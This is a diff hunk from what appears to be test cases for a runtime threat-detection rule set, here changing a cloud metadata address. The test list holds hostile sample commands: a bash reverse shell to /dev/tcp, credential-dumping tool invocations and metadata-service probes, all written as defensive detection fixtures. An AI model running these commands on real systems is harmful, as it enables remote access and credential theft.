@@ -124,7 +124,7 @@ CASES = [
     ("Credential dumping tool launched", execev(["/tmp/mimipenguin.sh"])),
     ("Credential dumping tool launched", execev(["python3", "laZagne.py", "all"])),
     ("Contact cloud metadata service (alternate address)", conn("169.254.170.2", 80)),
-    ("Contact cloud metadata service (alternate address)", conn("::ffff:169.254.169.254", 80, family=10)),
+    ("Contact cloud metadata service (alternate address)", conn("::ffff:169.254.170.2", 80, family=10)),
     # --- 45 execution
     ("Reverse shell command line", sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
     ("Reverse shell command line", execev(["python3", "-c", PY_REVSHELL])),
